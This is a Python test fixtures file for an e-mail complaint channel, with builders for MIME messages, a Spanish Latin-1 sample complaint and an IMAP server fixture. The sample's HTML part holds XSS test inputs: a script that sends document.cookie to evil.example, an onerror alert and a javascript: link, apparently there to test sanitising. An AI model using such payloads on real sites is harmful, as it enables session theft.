"""Fixtures of the e-mail channel: attachment folder, e-mail builders, a real IMAP server."""

from __future__ import annotations

from collections.abc import Iterator
from email.message import EmailMessage
from email.utils import format_datetime
from pathlib import Path
from typing import Any

import pytest

from meaculpa.core.clock import utcnow
from tests.mail.imap_server import ImapServer, Mailstore


@pytest.fixture(autouse=True)
def attachments_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "attachments"
    monkeypatch.setenv("MEACULPA_ATTACHMENTS_DIR", str(folder))
    return folder


def crlf(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\n", "\r\n")


# A real complaint as a Spanish mail client sends it: ISO-8859-1, RFC 2047 headers, an HTML
# alternative with a script and a tracking image, and a PDF attached.
SPANISH_COMPLAINT = crlf(
    """Return-Path: <lucia.fernandez@correo.example.es>
From: =?ISO-8859-1?Q?Luc=EDa_Fern=E1ndez?= <Lucia.Fernandez@Correo.Example.es>
To: Atencion al cliente <atencion@olivar.example>
Subject: =?ISO-8859-1?Q?Cobro_duplicado_del_pedido_4411_=BFqu=E9_ha_pasado=3F?=
Date: Mon, 02 Mar 2026 10:15:00 +0100
Message-ID: <CAF4411.lucia@correo.example.es>
Content-Language: es-ES
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="=_mixed_4411"

--=_mixed_4411
Content-Type: multipart/alternative; boundary="=_alt_4411"

--=_alt_4411
Content-Type: text/plain; charset=ISO-8859-1
Content-Transfer-Encoding: quoted-printable

Hola,

Me hab=E9is cobrado dos veces el pedido 4411 (89,90 =80 cada vez). Quiero que
me devolv=E1is el dinero cuanto antes.

Luc=EDa
--=_alt_4411
Content-Type: text/html; charset=ISO-8859-1
Content-Transfer-Encoding: quoted-printable

<html><head><style>p{color:red}</style></head><body>
<p>Hola,</p><p>Me hab=E9is cobrado <b>dos veces</b> el pedido 4411.</p>
<script>document.location=3D'https://evil.example/?c=3D'+document.cookie</script>
<img src=3D"https://tracker.example/pixel.gif" onerror=3D"alert(1)">
<a href=3D"javascript:alert(1)">pincha</a>
</body></html>
--=_alt_4411--

--=_mixed_4411
Content-Type: application/pdf; name="=?ISO-8859-1?Q?extracto_banca=F1o.pdf?="
Content-Disposition: attachment; filename="=?ISO-8859-1?Q?extracto_banca=F1o.pdf?="
Content-Transfer-Encoding: base64

JVBERi0xLjQKJcOkw7zDtsOfCjIgMCBvYmoKPDwvTGVuZ3RoIDMgMCBSPj4Kc3RyZWFtCkNvYnJv
IGR1cGxpY2FkbwplbmRzdHJlYW0KZW5kb2JqCg==
--=_mixed_4411--
"""
).encode("latin-1")
PDF_BYTES = (
    b"%PDF-1.4\n%\xc3\xa4\xc3\xbc\xc3\xb6\xc3\x9f\n2 0 obj\n<</Length 3 0 R>>\nstream\n"
    b"Cobro duplicado\nendstream\nendobj\n"
)


def make_email(
    *,
    sender: str = "Lucía Fernández <lucia.fernandez@correo.example.es>",
    subject: str = "Pedido 4411 sin llegar",
    text: str | None = "El pedido 4411 no ha llegado todavía.",
    html: str | None = None,
    message_id: str | None = "<m1@correo.example.es>",
    in_reply_to: str | None = None,
    references: str | None = None,
    headers: dict[str, str] | None = None,
    attachments: list[tuple[str, str, bytes]] | None = None,
    language: str | None = "es",
) -> bytes:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = "atencion@olivar.example"
    msg["Subject"] = subject
    msg["Date"] = format_datetime(utcnow())
    if message_id:
        msg["Message-ID"] = message_id
    if in_reply_to:
        msg["In-Reply-To"] = in_reply_to
    if references:
        msg["References"] = references
    for name, value in (headers or {}).items():
        msg[name] = value
    if text is not None:
        msg.set_content(text)
    if html is not None:
        if text is None:
            msg.set_content(html, subtype="html")
        else:
            msg.add_alternative(html, subtype="html")
    for filename, ctype, data in attachments or []:
        maintype, subtype = ctype.split("/")
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    if language:
        # Last: set_content() and add_attachment() move or drop Content-* headers.
        msg["Content-Language"] = language
    return msg.as_bytes()


def post_email(client: Any, raw: bytes, person: Any) -> Any:
    return client.post(
        "/api/v1/inbound/email",
        content=raw,
        headers={**person.headers, "Content-Type": "message/rfc822"},
    )


@pytest.fixture
def imap() -> Iterator[tuple[ImapServer, Mailstore]]:
    store = Mailstore()
    server = ImapServer(store)
    server.start()
    try:
        yield server, store
    finally:
        server.stop()
